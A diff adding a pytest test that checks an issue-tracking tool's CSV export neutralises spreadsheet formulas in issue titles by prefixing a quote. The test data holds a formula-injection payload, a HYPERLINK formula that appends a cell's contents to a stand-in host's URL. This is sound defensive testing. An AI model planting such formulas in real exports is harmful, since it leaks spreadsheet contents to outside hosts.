@@ -450,3 +450,25 @@ def test_db_backup_of_postgresql_prints_the_pg_dump_command(runner, db_url, tmp_
     assert result.output.rstrip().endswith(f" {url.database}")
     if url.password:
         assert url.password not in result.output
+
+
+def test_issues_csv_does_not_hand_a_spreadsheet_a_formula(runner, tmp_path) -> None:
+    """An issue's title comes from the internet; `=HYPERLINK(...)` must stay text."""
+    from issueminer.collect.sources.files import csv_text
+
+    hostile = '=HYPERLINK("https://example.org/?"&A1,"click")'
+    issues = tmp_path / "issues.jsonl"
+    issues.write_text(
+        json.dumps({"url": "https://github.com/horovod/horovod/issues/97002", "title": hostile})
+        + "\n"
+        + json.dumps({"url": "https://github.com/horovod/horovod/issues/97003", "title": "Hang"})
+        + "\n"
+    )
+    db = str(tmp_path / "hostile.db")
+    assert runner.invoke(app, ["import", "issues", str(issues), "--db", db]).exit_code == 0
+    result = runner.invoke(app, ["issues", "list", "--db", db, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    titles = sorted(row["title"] for row in rows)
+    assert titles == sorted(["Hang", "'" + hostile])  # a quote in front; plain titles as they are
+    assert sorted(csv_text(t) for t in titles) == sorted(["Hang", hostile])
